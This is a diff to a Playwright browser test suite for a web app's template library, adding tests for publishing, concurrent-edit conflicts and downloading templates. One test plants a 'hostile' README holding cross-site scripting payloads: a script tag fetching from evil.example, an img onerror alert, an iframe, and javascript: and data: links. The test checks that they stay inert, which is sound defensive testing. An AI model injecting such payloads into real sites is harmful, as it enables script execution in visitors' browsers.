@@ -1,10 +1,12 @@
-import { mkdirSync } from 'node:fs';
+import { mkdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
+import { strFromU8, unzipSync } from 'fflate';
 import type { Browser, BrowserContext, Page } from 'playwright-core';
 import { startListeningApp, type ListeningTestApp } from '../support/app';
 import { describeViolations, launchChromium, seriousViolations } from '../support/browser';
 import { postgresOnly } from '../support/database';
 import { providerEnv, startTestProvider, type TestProvider } from '../support/oidc-provider';
+import { localAccount } from '../support/web';
 
 /**
  * The application in a real browser (Debian's Chromium, by playwright-core), as a person uses it:
@@ -248,6 +250,8 @@ postgresOnly('browser tests')('the application in a browser', () => {
       `/subjects/${subject}/edit`,
       '/inbox',
       '/library',
+      '/library/mine',
+      '/library/mine/new',
       '/settings/api-keys',
       `/settings/api-keys/${key}/activity`,
       '/settings/sessions',
@@ -272,6 +276,174 @@ postgresOnly('browser tests')('the application in a browser', () => {
     await page.getByLabel('Invitation link', { exact: true }).waitFor();
     await person.check();
     expect(person.visited.length).toBeGreaterThanOrEqual(25);
+  });
+
+  it('publishes from the browser: new template, a stale save from a second tab, review findings, the checklist, unpublish', async () => {
+    const { page } = person;
+    await signIn(page, 'owner@example.com');
+    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Library' }).click();
+    await page.getByRole('link', { name: 'Your templates' }).click();
+    await person.check();
+    await page.getByRole('link', { name: 'New template' }).click();
+    await person.check();
+    await page.getByLabel('Name').fill('Weekly review');
+    await page.getByLabel('Summary').fill('A calm weekly review for busy teams.');
+    await page.getByLabel('Tags').fill('planning, weekly');
+    await page.getByRole('button', { name: 'Create template' }).click();
+    await page.getByText('The Template is created.').waitFor();
+    const editor = page.url().replace(/\?.*/, '');
+    await person.check();
+
+    // A second tab opens the same draft; the first saves; the second's save is refused, showing what changed.
+    const secondTab = await context.newPage();
+    await secondTab.goto(editor);
+    await page.getByLabel('Content of README.md').fill('# Weekly review\n\nToo short.\n');
+    await page.getByRole('button', { name: 'Save' }).click();
+    await page.getByText('The draft is saved.').waitFor();
+    await secondTab.getByLabel('Content of README.md').fill('# Written in the second tab\n');
+    await secondTab.getByRole('button', { name: 'Save' }).click();
+    await secondTab.getByText('This draft was saved elsewhere after you opened it').waitFor();
+    expect(await secondTab.getByRole('alert').filter({ hasText: 'saved elsewhere' }).textContent()).toContain('Changed since: README.md.');
+    expect(await secondTab.getByLabel('Content of README.md').inputValue()).toBe('# Written in the second tab\n');
+    await secondTab.getByRole('link', { name: 'Reload the current draft' }).click();
+    expect(await secondTab.getByLabel('Content of README.md').inputValue()).toBe('# Weekly review\n\nToo short.\n');
+    await secondTab.close();
+
+    // The review finds the README too short and says so beside it.
+    await page.getByRole('button', { name: 'Submit for review' }).click();
+    const finding = page.getByRole('note', { name: 'Review findings on README.md' });
+    await finding.waitFor();
+    expect(await finding.textContent()).toContain('README.md needs at least 40 non-blank characters');
+    await person.check();
+    await person.screenshot('library-editor');
+    expect(await page.getByRole('button', { name: 'Publish' }).count()).toBe(0);
+
+    // Fixed with the keyboard, saved, reviewed again: Publish waits for every item of the checklist.
+    await page.getByLabel('Content of README.md').focus();
+    await page.keyboard.press('Control+End');
+    await page.keyboard.type('A checklist to close the week calmly and plan the next one.\n');
+    await page.getByRole('button', { name: 'Save' }).focus();
+    await page.keyboard.press('Enter');
+    await page.getByText('The draft is saved.').waitFor();
+    await page.getByRole('button', { name: 'Submit for review' }).click();
+    const publish = page.getByRole('button', { name: 'Publish' });
+    await publish.waitFor();
+    await page.getByLabel('Release notes of this version').fill('The first version of the weekly review.');
+    const items = page.getByRole('group', { name: 'Before publishing, confirm each item' }).getByRole('checkbox');
+    expect(await items.count()).toBe(5);
+    for (let i = 0; i < 5; i += 1) {
+      expect(await publish.isDisabled()).toBe(true);
+      await items.nth(i).check();
+    }
+    expect(await publish.isEnabled()).toBe(true);
+    await person.check();
+    await publish.click();
+    await page.getByText('The Template is published').waitFor();
+    await page.getByRole('link', { name: 'Its page in the Library' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Weekly review' }).waitFor();
+    expect(await page.locator('.readme').textContent()).toContain('A checklist to close the week calmly');
+
+    // A second account copies it into its own templates, crediting the source.
+    const templatePage = page.url();
+    await localAccount(testApp, 'second@example.com', PASSWORD);
+    const second = await browser.newContext();
+    try {
+      const reader = new Person(await second.newPage());
+      await signIn(reader.page, 'second@example.com');
+      await reader.page.goto(templatePage);
+      await reader.page.getByRole('button', { name: 'Copy to my templates' }).click();
+      await reader.page.getByText('The Template is copied into your templates').waitFor();
+      expect(await reader.page.getByText('Copied from').textContent()).toContain('version 1');
+      await reader.check();
+      expect(reader.visited.map((v) => v.violations).filter(Boolean)).toEqual([]);
+      expect(reader.consoleErrors).toEqual([]);
+    } finally {
+      await second.close();
+    }
+
+    await page.goto(editor);
+    await page.getByRole('button', { name: 'Unpublish' }).click();
+    await page.getByText('The Template is unpublished').waitFor();
+    expect((await fetch(templatePage)).status).toBe(404);
+  });
+
+  it('lets a visitor find, read and download a published Template, whose hostile README stays inert', async () => {
+    const creator = await testApp.account();
+    const headers = { Authorization: `Bearer ${creator.readWriteKey}`, 'Content-Type': 'application/json' };
+    const call = async (path: string, body: unknown, method = 'POST') => {
+      const answer = await fetch(url(path), { method, headers, body: JSON.stringify(body) });
+      if (answer.status >= 300) throw new Error(`${path}: ${answer.status} ${await answer.text()}`);
+      return (await answer.json()) as { data: { template: { id: string } } };
+    };
+    const created = await call('/v1/library/templates/workflow', { action: 'create', name: 'Hostile but harmless', summary: 'A README that tries everything.', category: 'engineering', license: 'MIT' });
+    const id = created.data.template.id;
+    const readme = [
+      '# Hostile but harmless',
+      '',
+      'This README tries to run script in the browser of whoever reads it; every attempt stays text.',
+      '',
+      '<script>document.title = "owned"; fetch("https://evil.example/script")</script>',
+      '<img src="https://evil.example/onerror.png" onerror="alert(1)">',
+      '<iframe src="https://evil.example/frame"></iframe>',
+      '',
+      '[click me](javascript:alert(2)) · [data](data:text/html;base64,PHNjcmlwdD5hbGVydCgzKTwvc2NyaXB0Pg==) · ![pixel](https://evil.example/pixel.png)',
+      '',
+      'See [the notes](notes.md).',
+      '',
+    ].join('\n');
+    await call(`/v1/library/templates/${id}/draft`, { base_revision: 1, files: [{ path: 'README.md', content: readme }, { path: 'notes.md', content: 'Plain notes.\n' }] }, 'PUT');
+    await call('/v1/library/templates/workflow', { action: 'submit_review', template_id: id, revision: 2 });
+    await call('/v1/library/templates/workflow', {
+      action: 'publish',
+      template_id: id,
+      revision: 2,
+      release_notes: 'The first public version.',
+      confirm: { license: 'MIT', files_public: true, reviewed_revision: 2 },
+    });
+
+    const { page } = person;
+    const dialogs: string[] = [];
+    const elsewhere: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    page.on('request', (request) => {
+      if (!request.url().startsWith(testApp.baseUrl)) elsewhere.push(request.url());
+    });
+    await page.goto(url('/library'));
+    await person.check();
+    await page.getByLabel('Search').fill('hostile harmless');
+    await page.getByLabel('Search').press('Enter');
+    await page.getByRole('link', { name: 'Hostile but harmless' }).click();
+    await page.getByRole('heading', { level: 1, name: 'Hostile but harmless' }).waitFor();
+    await person.check();
+    await person.screenshot('library-template');
+    expect(await page.title()).toBe('Hostile but harmless · MTL');
+    expect(await page.locator('.readme').textContent()).toContain('<script>document.title = "owned"');
+    expect(await page.locator('.readme script, .readme img, .readme iframe').count()).toBe(0);
+    expect(await page.locator('.readme a[href^="javascript:"], .readme a[href^="data:"]').count()).toBe(0);
+    expect(await page.locator('.readme a').evaluateAll((links) => links.map((link) => link.getAttribute('rel')))).toEqual(
+      expect.arrayContaining(['nofollow ugc noopener noreferrer']),
+    );
+
+    await page.getByRole('link', { name: 'the notes' }).click();
+    await page.getByText('Plain notes.').waitFor();
+    await person.check();
+    await page.goBack();
+
+    const downloading = page.waitForEvent('download');
+    await page.getByRole('link', { name: 'Download' }).click();
+    const download = await downloading;
+    expect(download.suggestedFilename()).toBe('hostile-but-harmless-v1.zip');
+    const entries = unzipSync(new Uint8Array(readFileSync((await download.path())!)));
+    expect(Object.keys(entries).sort()).toEqual(['hostile-but-harmless-v1/README.md', 'hostile-but-harmless-v1/notes.md']);
+    expect(strFromU8(entries['hostile-but-harmless-v1/README.md']!)).toBe(readme);
+
+    await page.goto(url('/library'));
+    await person.screenshot('library');
+    expect(dialogs).toEqual([]);
+    expect(elsewhere).toEqual([]);
   });
 
   it('works without JavaScript, and with the keyboard', async () => {
